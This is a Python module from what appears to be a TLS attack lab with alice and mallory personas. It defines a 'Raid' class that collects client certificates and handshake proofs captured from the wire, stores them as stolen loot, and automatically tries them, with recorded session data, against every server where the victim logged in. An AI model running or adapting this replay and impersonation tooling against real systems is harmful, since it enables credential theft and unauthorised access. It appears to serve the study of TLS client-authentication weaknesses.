"""The raid on the wire: from what was captured to attempts at every gateway where a victim was seen to log in."""

import asyncio
from collections.abc import Callable, Coroutine, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from attacker.attempts import Plan, Target, Tries, is_self_signed
from attacker.collected import Sight, Stolen
from attacker.moves.make import Loot
from lab.capture.handshake import Capture, Contact
from lab.catalogue.leaks import WIRE
from lab.events.log import Reporter
from lab.events.types import HandshakeSeen, Trouble
from lab.tls.bundle import Bundle
from lab.tls.errors import Abort
from lab.tls.messages import ClientHello, ServerHello, parse
from lab.tls.records import ContentType
from lab.tls.sessions import Session
from lab.tls.versions import TLS12, version_name

MAX_SERVERS = 10_000

_BEYOND_PLAINTEXT = (ContentType.CHANGE_CIPHER_SPEC, ContentType.APPLICATION_DATA)
"""Records that show that a client got as far as to answer its server."""

Way = Callable[[str], tuple[str, int]]
"""From a server's address as it was seen on the wire, `host:port`, to where the attacker reaches that server."""


@dataclass
class Server:
    """What was seen of one server: how it was asked for, alice's certificate there, her connections by version."""

    name: str
    capture: Capture | None = None
    recorded: dict[int, bytes] = field(default_factory=dict)
    tried: set[int] = field(default_factory=set)


class Raid:
    """Takes what is seen on the wire as it comes, and once a certificate came with its proof, tries it at every server.

    At each server it uses what was seen there, or else the first certificate that an authority issued: some servers do
    not ask in TLS, and a self-signed one is worth something only where it is known. `way` leads to the servers,
    `source` says how the attacker came to see the wire. What happens is reported, and the certificates are kept in
    `folder`/stolen.
    """

    def __init__(self, reporter: Reporter, folder: Path, source: str, way: Way, plan: Plan | None = None) -> None:
        self._reporter = reporter
        self._way = way
        self._plan = plan or Plan()
        self._stolen = Stolen(reporter, folder, WIRE.id, source)
        self._tries = Tries(reporter, WIRE.id, self._plan)
        self._issued: Capture | None = None
        """The first capture with a certificate that an authority issued."""
        self._servers: dict[str, Server] = {}
        self._tasks: set[asyncio.Task[None]] = set()

    def take(self, capture: Capture) -> None:
        """Works on one capture; the attempts run in the background of the running loop."""
        if not capture.chain or len(self._servers) > MAX_SERVERS:
            return
        try:
            self._stolen.report(capture.chain[0], _sight(capture))
        except ValueError as error:
            self._reporter.report(Trouble(f"{capture.client} presented no readable certificate: {error}"))
            return
        server = self._server(capture.server, capture.server_name)
        if capture.certificate_verify is not None and server.capture is None:
            server.capture = capture
            server.recorded[TLS12] = capture.client_bytes
            if self._issued is None and not is_self_signed(capture.chain[0]):
                self._issued = capture
            self._stolen.keep(capture.chain[0])
        self._go_on()

    def meet(self, contact: Contact) -> None:
        """Works on a handshake in which no client certificate can be read."""
        if contact.version is None or contact.resumed or len(self._servers) > MAX_SERVERS:
            return
        self._report_contact(contact, version_name(contact.version))
        if any(kind in _BEYOND_PLAINTEXT for kind, _ in contact.client_records):
            self._server(contact.server, contact.server_name).recorded.setdefault(contact.version, contact.client_bytes)
            self._go_on()

    async def close(self) -> None:
        """Breaks off what is still going on."""
        for task in self._tasks:
            task.cancel()
        await asyncio.gather(*self._tasks, return_exceptions=True)

    def _server(self, address: str, name: str | None) -> Server:
        return self._servers.setdefault(address, Server(name or address.rpartition(":")[0]))

    def _go_on(self) -> None:
        """Starts on every server and version that has been seen and not been tried.

        A server counts as seen when its TLS 1.2 was, which alone can show the certificate that is wanted there.
        """
        for address, server in self._servers.items():
            capture = server.capture or self._issued
            for version in self._plan.versions:
                seen = TLS12 in server.recorded and version in server.recorded
                if capture and seen and version not in server.tried:
                    server.tried.add(version)
                    loot = loot_from(capture, server.recorded, self._plan.own_like(capture.chain[0]))
                    target = Target(self._way(address), server.name, capture.server)
                    self._start(self._tries.everything(target, version, loot))

    def _start(self, work: Coroutine[Any, Any, None]) -> None:
        task = asyncio.create_task(work)
        self._tasks.add(task)
        task.add_done_callback(self._tasks.discard)

    def _report_contact(self, contact: Contact, tls: str) -> None:
        """The first sight of such a handshake at a server."""
        if not self._stolen.is_new("", contact.server, tls):
            return
        self._reporter.report(
            HandshakeSeen(
                client=contact.client,
                server=contact.server,
                tls=tls,
                server_name=contact.server_name or "",
                client_random=(contact.client_random or b"").hex(),
                server_random=(contact.server_random or b"").hex(),
                client_records=tuple(_described(contact.client_records)),
                server_records=tuple(_described(contact.server_records)),
                asked=contact.asked,
            )
        )


def loot_from(capture: Capture, recorded: dict[int, bytes], own: Bundle | None) -> Loot:
    """What there is to make moves with, besides mallory's own bundle."""
    messages = [_parsed(entry.raw) for entry in capture.messages]
    hello = next((message for message in messages if isinstance(message, ClientHello)), None)
    answer = next((message for message in messages if isinstance(message, ServerHello)), None)
    session = None
    if answer and (capture.session_id or capture.ticket):
        session = Session(capture.session_id, capture.ticket, None, answer.cipher_suite, True)
    return Loot(
        chain=capture.chain,
        proof=capture.certificate_verify,
        hello=hello,
        session=session,
        recorded=recorded,
        own=own,
    )


def _sight(capture: Capture) -> Sight:
    return Sight(
        client=capture.client,
        server=capture.server,
        tls=version_name(capture.version),
        record=capture.record_header,
        message=capture.certificate_message,
        proof=capture.certificate_verify,
        transcript=tuple(entry.raw for entry in capture.transcript),
        client_random=capture.client_random or b"",
        server_random=capture.server_random or b"",
        note=capture.note,
    )


def _parsed(raw: bytes) -> object:
    try:
        return parse(raw)
    except Abort:
        return None


def _described(records: tuple[tuple[int, int], ...]) -> Iterator[str]:
    names = {int(kind): kind.name.lower() for kind in ContentType}
    return (f"{names.get(kind, kind)} {length}" for kind, length in records)
